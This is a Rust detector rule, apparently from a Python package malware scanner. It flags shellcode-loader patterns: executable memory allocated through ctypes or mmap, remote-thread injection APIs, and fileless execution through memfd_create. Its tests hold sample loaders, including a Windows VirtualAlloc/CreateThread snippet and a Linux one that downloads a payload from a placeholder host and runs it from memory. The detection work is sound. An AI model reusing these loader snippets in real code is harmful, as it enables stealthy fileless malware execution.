//! WH230 memory-exec: executable memory allocated through ctypes, and threads started in it or
//! in another process: the shape of a shellcode loader.

use ruff_python_ast::{Expr, ExprCall};
use ruff_text_size::Ranged;

use crate::finding::{Category, ExecContext, Rule};
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH230",
    name: "memory-exec",
    description: "Allocates executable memory through ctypes (VirtualAlloc/VirtualProtect with an execute flag, mmap with PROT_EXEC), or starts a thread in memory or in another process",
    rationale: "Shellcode loaders copy machine code into memory they make executable and start a \
                thread on it, so the payload never touches the disk as a file any scanner could \
                read; injectors write into another process and start a thread there. Python \
                libraries have almost no reason to do either (JIT compilers allocate such memory \
                in their native code, not through ctypes). Each half weighs a little alone; both \
                in one file are a loader (`combo:shellcode-loader`).",
    category: Category::Sink,
};

/// Page protections with the execute bit (PAGE_EXECUTE, _READ, _READWRITE, _WRITECOPY).
const EXECUTE_PROTECTIONS: [i64; 4] = [0x10, 0x20, 0x40, 0x80];

/// The Win32 function a ctypes call reaches (`ctypes.windll.kernel32.VirtualAlloc`,
/// `windll.kernel32.VirtualAlloc`, `ctypes.WinDLL('kernel32').VirtualAlloc`), by its last part.
fn win32_function(qualname: &str) -> Option<&str> {
    let (library, function) = qualname.rsplit_once('.')?;
    let kernel32 = library.ends_with("kernel32")
        || library.ends_with("kernel32()")
        || library.ends_with("ntdll")
        || library.contains("WinDLL(")
        || library.contains("windll");
    kernel32.then_some(function)
}

/// The argument holding the page protection of an allocation call, by position.
fn protection_position(function: &str) -> Option<usize> {
    match function {
        "VirtualAlloc" | "VirtualAllocExNuma" => Some(3),
        "VirtualAllocEx" => Some(4),
        "VirtualProtect" => Some(2),
        "VirtualProtectEx" => Some(3),
        _ => None,
    }
}

/// Calls that start code in memory or in another process.
fn starts_code(function: &str) -> bool {
    matches!(
        function,
        "CreateThread"
            | "CreateRemoteThread"
            | "CreateRemoteThreadEx"
            | "QueueUserAPC"
            | "NtCreateThreadEx"
            | "RtlCreateUserThread"
            | "WriteProcessMemory"
            | "NtWriteVirtualMemory"
    )
}

/// `mmap.mmap(-1, n, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)`.
fn maps_executable(checker: &Checker, call: &ExprCall, qualname: &str) -> bool {
    if qualname != "mmap.mmap" {
        return false;
    }
    let Some(prot) = super::keyword(call, "prot") else {
        return false;
    };
    let mut stack = vec![prot];
    while let Some(node) = stack.pop() {
        match node {
            Expr::BinOp(b) => {
                stack.push(&b.left);
                stack.push(&b.right);
            }
            other => {
                if checker
                    .qualname(other)
                    .is_some_and(|q| q.ends_with("PROT_EXEC"))
                {
                    return true;
                }
            }
        }
    }
    false
}

/// `os.execv('/proc/self/fd/%d' % fd, …)` or `os.fexecve(fd, …)`: a program started from a
/// file descriptor, which after `os.memfd_create` is a file that exists only in memory.
fn starts_from_descriptor(checker: &Checker, call: &ExprCall, qualname: &str) -> bool {
    if qualname == "os.fexecve" {
        return true;
    }
    if !super::process_spawn::is_spawn(qualname) {
        return false;
    }
    let program = match call.arguments.args.first() {
        Some(Expr::List(list)) => list.elts.first(),
        Some(Expr::Tuple(tuple)) => tuple.elts.first(),
        other => other,
    };
    program
        .and_then(|program| super::partial_text(checker, program))
        .is_some_and(|text| {
            text.split_whitespace()
                .next()
                .is_some_and(|head| head.starts_with("/proc/") && head.contains("/fd/"))
        })
}

/// Fileless execution on Linux: an anonymous in-memory file (`os.memfd_create`) and a program
/// started from a descriptor. Together they are the loader shape (`combo:shellcode-loader`).
fn check_memory_file(checker: &mut Checker, call: &ExprCall, qualname: &str) -> bool {
    let creates = qualname == "os.memfd_create";
    if !creates && !starts_from_descriptor(checker, call, qualname) {
        return false;
    }
    let context = checker.context();
    let (severity, message, tag) = if creates {
        let severity = match context {
            // Alone, a way to hand data to a child without a temporary file (google-auth
            // passes client certificates so); only a start from it makes a loader.
            ExecContext::Install | ExecContext::Import => 0.15,
            ExecContext::Runtime => 0.02,
            ExecContext::TestOrDocs => 0.01,
        };
        (
            severity,
            format!(
                "{qualname} creates a file that exists only in memory {}",
                context.phrase()
            ),
            "exec-memory",
        )
    } else {
        let severity = match context {
            ExecContext::Install | ExecContext::Import => 0.5,
            ExecContext::Runtime => 0.3,
            ExecContext::TestOrDocs => 0.05,
        };
        (
            severity,
            format!(
                "{qualname} starts a program from a file descriptor, leaving no file on disk, {}",
                context.phrase()
            ),
            "memory-thread",
        )
    };
    checker.report(&RULE, call.range(), message, severity, vec!["memory", tag]);
    true
}

/// Memory and thread calls.
pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if check_memory_file(checker, call, qualname) {
        return;
    }
    let function = win32_function(qualname);
    let executable_allocation = function.and_then(protection_position).is_some_and(|at| {
        call.arguments
            .args
            .get(at)
            .and_then(|arg| checker.fold(arg))
            .and_then(|value| match value {
                crate::fold::Value::Int(protection) => Some(protection),
                _ => None,
            })
            .is_some_and(|protection| EXECUTE_PROTECTIONS.contains(&protection))
    }) || maps_executable(checker, call, qualname);
    let starts = function.is_some_and(starts_code);
    if !executable_allocation && !starts {
        return;
    }
    let context = checker.context();
    let severity = match context {
        ExecContext::Install | ExecContext::Import => 0.45,
        ExecContext::Runtime => 0.25,
        ExecContext::TestOrDocs => 0.05,
    };
    let (message, tag) = if executable_allocation {
        (
            format!(
                "{qualname} allocates executable memory {}",
                context.phrase()
            ),
            "exec-memory",
        )
    } else {
        (
            format!(
                "{qualname} starts code in memory or in another process {}",
                context.phrase()
            ),
            "memory-thread",
        )
    };
    checker.report(&RULE, call.range(), message, severity, vec!["memory", tag]);
}

#[cfg(test)]
mod tests {
    use crate::rules::testing::{findings, max_severity};

    const LOADER: &str = "import ctypes, base64\ndef run(blob):\n    buf = base64.b64decode(blob)\n    k32 = ctypes.windll.kernel32\n    ptr = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\n    ctypes.windll.kernel32.RtlMoveMemory(ptr, buf, len(buf))\n    ctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)\n";

    #[test]
    fn executable_memory_and_a_thread_in_it_are_reported() {
        let found = findings("p/pkg/m.py", LOADER);
        assert!(
            found.iter().any(|f| f.tags.contains(&"exec-memory")),
            "{found:?}"
        );
        assert!(
            found.iter().any(|f| f.tags.contains(&"memory-thread")),
            "{found:?}"
        );
        let mapped = "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n";
        assert!(max_severity("p/pkg/__init__.py", mapped, "WH230") >= 0.4);
    }

    #[test]
    fn a_program_started_from_an_in_memory_file_is_a_loader() {
        let fileless = "import os, urllib.request\ndata = urllib.request.urlopen('https://x.example.invalid/k').read()\nfd = os.memfd_create('k', 0)\nos.write(fd, data)\nos.execv('/proc/self/fd/%d' % fd, ['k'])\n";
        let found = findings("p/pkg/__init__.py", fileless);
        assert!(
            found.iter().any(|f| f.tags.contains(&"exec-memory")),
            "{found:?}"
        );
        assert!(
            found.iter().any(|f| f.tags.contains(&"memory-thread")),
            "{found:?}"
        );
        let direct = "import os\ndef run(fd):\n    os.fexecve(fd, ['x'], {})\n";
        assert!(max_severity("p/pkg/m.py", direct, "WH230") >= 0.3);
        // A descriptor passed to a child, or a path that only mentions /proc, starts nothing
        // from memory.
        let listing = "import subprocess\nsubprocess.run(['ls', '/proc/self/fd/'])\n";
        assert_eq!(max_severity("p/pkg/m.py", listing, "WH230"), 0.0);
    }

    #[test]
    fn data_memory_and_other_kernel32_calls_are_not() {
        let data = "import ctypes\ndef f(n):\n    return ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x04)\n";
        assert_eq!(max_severity("p/pkg/m.py", data, "WH230"), 0.0);
        let other = "import ctypes\ndef f():\n    return ctypes.windll.kernel32.GetTickCount()\n";
        assert_eq!(max_severity("p/pkg/m.py", other, "WH230"), 0.0);
        let mapped = "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ)\n";
        assert_eq!(max_severity("p/pkg/m.py", mapped, "WH230"), 0.0);
    }
}
